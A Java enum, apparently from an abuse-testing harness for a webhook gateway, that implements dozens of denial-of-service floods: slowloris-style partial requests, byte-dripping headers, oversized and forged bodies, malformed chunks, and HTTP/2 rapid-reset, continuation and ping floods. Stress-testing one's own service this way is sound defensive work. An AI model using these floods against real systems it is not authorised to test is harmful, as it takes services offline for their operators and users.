package io.adjourn.abuse;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import io.adjourn.abuse.PlainFlood.Then.Close;
import io.adjourn.abuse.PlainFlood.Then.CloseHalf;
import io.adjourn.abuse.PlainFlood.Then.Drip;
import io.adjourn.abuse.PlainFlood.Then.Hold;
import io.adjourn.abuse.PlainFlood.Then.Repeat;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Locale;
import java.util.function.Function;

/**
 * All known ways to flood a gateway. The name of each is the option of the command that runs it alone.
 */
public enum Floods {
    RECONNECT_1("connect, one unknown source, close", Over.PLAIN, victim -> reconnect(1)),
    RECONNECT_10("connect, 10 unknown sources pipelined, close", Over.PLAIN, victim -> reconnect(10)),
    RECONNECT_100("connect, 100 unknown sources pipelined, close", Over.PLAIN, victim -> reconnect(100)),
    CONNECT(
            "connect, close",
            Over.PLAIN,
            victim -> new PlainFlood(Victim.ONE_STRANGER, 64, Of.UNLIMITED, bytes(" "), new Close())),
    IDLE("connect, say nothing", Over.PLAIN, victim -> hold(Victim.ONE_STRANGER, victim, Of.UNLIMITED, "")),
    HALF_SENT_SIGNED(
            "half-sent requests to a source",
            Over.PLAIN,
            victim -> hold(
                    Victim.ONE_STRANGER, victim, Of.UNLIMITED, victim.small().head() + Of.HALF)),
    HALF_SENT_UNKNOWN(
            "half-sent requests to an unknown source",
            Over.PLAIN,
            victim -> hold(Victim.ONE_STRANGER, victim, Of.UNLIMITED, Of.UNKNOWN + Of.HALF)),
    HALF_SENT_GET(
            "half-sent requests to no path",
            Over.PLAIN,
            victim -> hold(Victim.ONE_STRANGER, victim, Of.UNLIMITED, "GET / HTTP/1.1\r\nHost: gateway\r\n" + Of.HALF)),
    HALF_SENT_SLOWLY(
            "125 half-sent requests a second",
            Over.PLAIN,
            victim -> hold(Victim.ONE_STRANGER, victim, 125, victim.small().head() + Of.HALF)),
    HALF_SENT_BY_MANY(
            "half-sent requests from 100 addresses",
            Over.PLAIN,
            victim -> hold(
                    Victim.MANY_STRANGERS, victim, Of.UNLIMITED, victim.small().head() + Of.HALF)),
    KEPT_BY_MANY(
            "a first request answered, the second head never ends, from 100 addresses",
            Over.PLAIN,
            victim -> hold(Victim.MANY_STRANGERS, victim, Of.UNLIMITED, Of.UNKNOWN + Of.EMPTY + Of.UNKNOWN)),
    LARGE_BODIES(
            "the largest bodies with a false proof, all but the last byte",
            Over.PLAIN,
            victim -> bodies(Victim.ONE_STRANGER, victim.large(), victim)),
    MANY_BODIES(
            "bodies of 1 MiB with a false proof, all but the last byte",
            Over.PLAIN,
            victim -> bodies(Victim.ONE_STRANGER, victim.small(), victim)),
    BODIES_BY_MANY(
            "bodies of 1 MiB with a false proof, from 100 addresses",
            Over.PLAIN,
            victim -> bodies(Victim.MANY_STRANGERS, victim.small(), victim)),
    COMPLETE_BODIES(
            "bodies of 1 MiB with a false proof, whole, again and again",
            Over.PLAIN,
            victim -> repeat(8, wholeBody(victim.small()), true)),
    BODY_TOO_SLOW("bodies below the minimum rate", Over.PLAIN, victim -> trickle(victim, 512, Duration.ofSeconds(1))),
    BODY_JUST_FAST_ENOUGH(
            "bodies just above the minimum rate", Over.PLAIN, victim -> trickle(victim, 550, Duration.ofMillis(500))),
    HEAD_TRICKLE(
            "request lines, a byte at a time",
            Over.PLAIN,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER,
                    victim.maxConnections() + Of.BEYOND,
                    Of.UNLIMITED,
                    bytes("POST /webhooks/"),
                    new Drip(bytes("x"), Duration.ofSeconds(1)))),
    TINY_CHUNKS(
            "bodies in chunks of one byte",
            Over.PLAIN,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER,
                    8,
                    Of.UNLIMITED,
                    bytes(victim.small().head() + "Transfer-Encoding: chunked\r\n\r\n"),
                    new Repeat(bytes("1\r\nx\r\n".repeat(2_000)), true))),
    NO_READER(
            "requests whose answers are never read",
            Over.PLAIN,
            victim -> repeat(64, (Of.UNKNOWN + Of.EMPTY).repeat(20), false)),
    CONTINUE(
            "100-continue asked for, then nothing",
            Over.PLAIN,
            victim -> hold(
                    Victim.ONE_STRANGER,
                    victim,
                    Of.UNLIMITED,
                    victim.small().head() + "Expect: 100-continue\r\nContent-Length: 1000\r\n\r\n")),
    HALF_CLOSED(
            "half a request, then its end is closed",
            Over.PLAIN,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER, 256, Of.UNLIMITED, bytes(victim.small().head() + Of.HALF), new CloseHalf())),
    NOT_FOUND(
            "unknown paths",
            Over.PLAIN,
            victim -> repeat(16, "POST /x HTTP/1.1\r\nHost: gateway\r\n" + Of.EMPTY, true)),
    UNKNOWN_SOURCE("unknown sources", Over.PLAIN, victim -> repeat(16, Of.UNKNOWN + Of.EMPTY, true)),
    METHODS(
            "HEAD, GET and OPTIONS of a source",
            Over.PLAIN,
            victim -> repeat(
                    16,
                    List.of("HEAD", "GET", "OPTIONS").stream()
                            .map(method -> victim.small().head().replaceFirst("POST", method) + Of.EMPTY)
                            .reduce("", String::concat),
                    true)),
    FORGED(
            "small bodies with a false proof",
            Over.PLAIN,
            victim -> repeat(16, victim.small().head() + "Content-Length: 2\r\n\r\n{}", true)),
    MALFORMED(
            "what is not HTTP",
            Over.PLAIN,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER, 64, Of.UNLIMITED, bytes("POST\r\nnonsense\r\n\r\n"), new Hold())),
    MALFORMED_CHUNKS(
            "chunks that are none",
            Over.PLAIN,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER,
                    64,
                    Of.UNLIMITED,
                    bytes(victim.small().head() + "Transfer-Encoding: chunked\r\n\r\n100000015\r\nx\r\n\r\n"),
                    new Hold())),
    LARGE_HEADERS(
            "headers that are too large",
            Over.PLAIN,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER,
                    64,
                    Of.UNLIMITED,
                    bytes(victim.small().head() + "X-Large: " + "x".repeat(16_000) + "\r\n\r\n"),
                    new Hold())),
    TLS_TO_PLAIN(
            "TLS said to a plain port",
            Over.PLAIN,
            victim -> new PlainFlood(Victim.ONE_STRANGER, 64, Of.UNLIMITED, TlsClient.hello(), new Hold())),

    HELLO(
            "ClientHello, close",
            Over.TLS,
            victim -> new PlainFlood(Victim.ONE_STRANGER, 64, Of.UNLIMITED, TlsClient.hello(), new Close())),
    HELLO_HELD(
            "ClientHello, then nothing",
            Over.TLS,
            victim -> new PlainFlood(
                    Victim.ONE_STRANGER,
                    victim.maxConnections() + Of.BEYOND,
                    Of.UNLIMITED,
                    TlsClient.hello(),
                    new Hold())),
    PLAIN_TO_TLS(
            "plain HTTP said to a port of TLS",
            Over.TLS,
            victim -> new PlainFlood(Victim.ONE_STRANGER, 64, Of.UNLIMITED, bytes(Of.UNKNOWN + Of.EMPTY), new Hold())),
    HANDSHAKES(
            "whole handshakes, close",
            Over.TLS,
            victim -> new TlsFlood(Victim.ONE_STRANGER, 8, TlsClient.HTTP_1, (socket, progress) -> {})),
    TLS_RECONNECT("TLS, 100 unknown sources pipelined, close", Over.TLS, victim -> {
        byte[] requests = bytes((Of.UNKNOWN + Of.EMPTY).repeat(100));
        return new TlsFlood(Victim.ONE_STRANGER, 8, TlsClient.HTTP_1, (socket, progress) -> {
            socket.getOutputStream().write(requests);
            socket.getOutputStream().flush();
        });
    }),
    H2_HEADERS_CLOSE("HTTP/2, 1,000 requests to an unknown source, close", Over.TLS, victim -> {
        byte[] requests = streams(1, 1_000, "/webhooks/x", false);
        return new TlsFlood(
                Victim.ONE_STRANGER,
                4,
                TlsClient.HTTP_2,
                (socket, progress) -> new Http2Frames(socket).write(requests));
    }),
    H2_RAPID_RESET(
            "HTTP/2, requests that are reset at once",
            Over.TLS,
            victim -> new TlsFlood(Victim.ONE_STRANGER, 4, TlsClient.HTTP_2, (socket, progress) -> {
                TlsFlood.readBeside(socket);
                var http2 = new Http2Frames(socket);
                for (int first = 1; !progress.isStopped(); first += 200) {
                    http2.write(streams(first, 100, "/webhooks/x", true));
                }
            })),
    H2_WINDOW_RESET(
            "HTTP/2, requests that make the gateway reset them",
            Over.TLS,
            victim -> new TlsFlood(Victim.ONE_STRANGER, 4, TlsClient.HTTP_2, (socket, progress) -> {
                TlsFlood.readBeside(socket);
                var http2 = new Http2Frames(socket);
                while (!progress.isStopped()) {
                    int stream = http2.nextStream();
                    http2.frame(
                            Http2Frames.HEADERS, Http2Frames.END_HEADERS, stream, Http2Frames.request("/webhooks/x"));
                    http2.frame(Http2Frames.WINDOW_UPDATE, 0, stream, new byte[4]);
                }
            })),
    H2_OPEN_BODIES("HTTP/2, 100 bodies a connection that never end", Over.TLS, victim -> {
        byte[] bodies = openBodies(victim.small());
        return new TlsFlood(Victim.ONE_STRANGER, 48, TlsClient.HTTP_2, (socket, progress) -> {
            new Http2Frames(socket).write(bodies);
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        });
    }),
    H2_OPEN_BODIES_BY_MANY("HTTP/2, 100 bodies a connection, from 100 addresses", Over.TLS, victim -> {
        byte[] bodies = openBodies(victim.small());
        return new TlsFlood(Victim.MANY_STRANGERS, 48, TlsClient.HTTP_2, (socket, progress) -> {
            new Http2Frames(socket).write(bodies);
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        });
    }),
    H2_PINGS("HTTP/2, pings and settings", Over.TLS, victim -> {
        byte[] frames = controlFrames(500);
        return new TlsFlood(Victim.ONE_STRANGER, 4, TlsClient.HTTP_2, (socket, progress) -> {
            var http2 = new Http2Frames(socket);
            while (!progress.isStopped()) {
                http2.write(frames);
            }
        });
    }),
    H2_CONTINUATIONS("HTTP/2, headers that never end", Over.TLS, victim -> {
        byte[] first = Http2Frames.bytes(Http2Frames.HEADERS, 0, 1, Http2Frames.request("/webhooks/x"));
        byte[] more = Http2Frames.bytes(Http2Frames.CONTINUATION, 0, 1, Http2Frames.header("x", "more"));
        return new TlsFlood(Victim.ONE_STRANGER, 4, TlsClient.HTTP_2, (socket, progress) -> {
            TlsFlood.readBeside(socket);
            var http2 = new Http2Frames(socket);
            http2.write(first);
            while (!progress.isStopped()) {
                http2.write(more);
            }
        });
    });

    /** What the gateway's port must speak for the flood to make sense. */
    public enum Over {
        PLAIN,
        TLS
    }

    private final String description;
    private final Over over;

    @SuppressWarnings("ImmutableEnumChecker") // Makers of floods, which keep nothing.
    private final Function<Victim, Flood> flood;

    Floods(String description, Over over, Function<Victim, Flood> flood) {
        this.description = description;
        this.over = over;
        this.flood = flood;
    }

    /** What strangers do, in a few words. */
    public String description() {
        return description;
    }

    public Over over() {
        return over;
    }

    /** The flood, made for that gateway. */
    public Flood against(Victim victim) {
        return flood.apply(victim);
    }

    private static Flood reconnect(int pipelined) {
        return new PlainFlood(
                Victim.ONE_STRANGER, 64, Of.UNLIMITED, bytes((Of.UNKNOWN + Of.EMPTY).repeat(pipelined)), new Close());
    }

    private static Flood hold(List<InetAddress> from, Victim victim, int perSecond, String opening) {
        return new PlainFlood(from, victim.maxConnections() + Of.BEYOND, perSecond, bytes(opening), new Hold());
    }

    private static Flood repeat(int connections, String requests, boolean reads) {
        return repeat(connections, bytes(requests), reads);
    }

    private static Flood repeat(int connections, byte[] requests, boolean reads) {
        return new PlainFlood(Victim.ONE_STRANGER, connections, Of.UNLIMITED, requests, new Repeat(requests, reads));
    }

    /** So many that they would fill what may be in flight, and an eighth more. */
    private static Flood bodies(List<InetAddress> from, Victim.Source source, Victim victim) {
        byte[] whole = wholeBody(source);
        int fill = (int) Math.max(8, victim.maxInFlightBytes() * 9 / 8 / source.maxBodyBytes());
        return new PlainFlood(from, fill, Of.UNLIMITED, Arrays.copyOf(whole, whole.length - 1), new Hold());
    }

    private static Flood trickle(Victim victim, int bytes, Duration every) {
        return new PlainFlood(
                Victim.ONE_STRANGER,
                victim.maxConnections() + Of.BEYOND,
                Of.UNLIMITED,
                bytes(victim.small().head() + "Content-Length: "
                        + victim.small().maxBodyBytes() + "\r\n\r\n{"),
                new Drip(bytes(" ".repeat(bytes)), every));
    }

    private static byte[] wholeBody(Victim.Source source) {
        byte[] head = bytes(source.head() + "Content-Length: " + source.maxBodyBytes() + "\r\n\r\n");
        byte[] all = Arrays.copyOf(head, head.length + source.maxBodyBytes());
        Arrays.fill(all, head.length, all.length, (byte) ' ');
        return all;
    }

    /** Requests on so many streams from that one, reset at once or left open. */
    private static byte[] streams(int first, int count, String path, boolean reset) {
        var frames = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            int stream = first + 2 * i;
            frames.writeBytes(
                    Http2Frames.bytes(Http2Frames.HEADERS, Http2Frames.END_HEADERS, stream, Http2Frames.request(path)));
            if (reset) {
                frames.writeBytes(Http2Frames.bytes(Http2Frames.RST_STREAM, 0, stream, new byte[] {0, 0, 0, 8}));
            }
        }
        return frames.toByteArray();
    }

    private static byte[] openBodies(Victim.Source source) {
        var block = new ByteArrayOutputStream();
        block.writeBytes(Http2Frames.request(source.path()));
        block.writeBytes(Http2Frames.header(source.header().toLowerCase(Locale.ROOT), source.value()));
        var frames = new ByteArrayOutputStream();
        for (int stream = 1; stream < 200; stream += 2) {
            frames.writeBytes(
                    Http2Frames.bytes(Http2Frames.HEADERS, Http2Frames.END_HEADERS, stream, block.toByteArray()));
            frames.writeBytes(Http2Frames.bytes(Http2Frames.DATA, 0, stream, new byte[500]));
        }
        return frames.toByteArray();
    }

    private static byte[] controlFrames(int count) {
        var frames = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            frames.writeBytes(Http2Frames.bytes(Http2Frames.SETTINGS, 0, 0, new byte[0]));
            frames.writeBytes(Http2Frames.bytes(Http2Frames.PING, 0, 0, new byte[8]));
        }
        return frames.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(ISO_8859_1);
    }

    /** Apart, for an enum's constants cannot use what is declared behind them. */
    private static final class Of {
        static final int UNLIMITED = Integer.MAX_VALUE;

        /** As many connections more than are admitted. */
        static final int BEYOND = 100;

        static final String UNKNOWN = "POST /webhooks/x HTTP/1.1\r\nHost: gateway\r\n";
        static final String EMPTY = "Content-Length: 0\r\n\r\n";
        static final String HALF = "Content-Length: 1000\r\n\r\n{";
    }
}
